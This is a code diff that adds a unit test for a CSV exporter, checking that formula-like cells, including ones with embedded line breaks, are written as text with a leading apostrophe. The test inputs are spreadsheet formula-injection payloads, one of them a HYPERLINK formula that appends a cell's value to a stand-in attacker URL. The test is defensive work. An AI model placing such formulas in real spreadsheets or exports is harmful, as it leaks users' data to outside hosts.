@@ -29,3 +29,16 @@ test('a text cell that a spreadsheet would run as a formula is written as text; 
   const [, row] = csv.slice(1).split('\r\n');
   expect(row).toBe(`"'=HYPERLINK(""https://evil.example"",""Click"")","'@SUM(A1)",-3`);
 });
+
+test.each([
+  ['=HYPERLINK("https://evil.example/?x="&A2,\n"Open")'],
+  ['+1\r\n2'],
+  ['-2+3\n'],
+  ['@SUM(A1)\nnext line'],
+  ['\t=1\n'],
+  ['\r=1\n'],
+])('a formula cell with a line break in it is written as text too: %j', (summary) => {
+  const csv = toCsv(['summary'], [{ summary }]);
+  const parsed = Papa.parse<Record<string, string>>(csv.slice(1), { header: true, skipEmptyLines: true });
+  expect(parsed.data).toEqual([{ summary: `'${summary}` }]);
+});
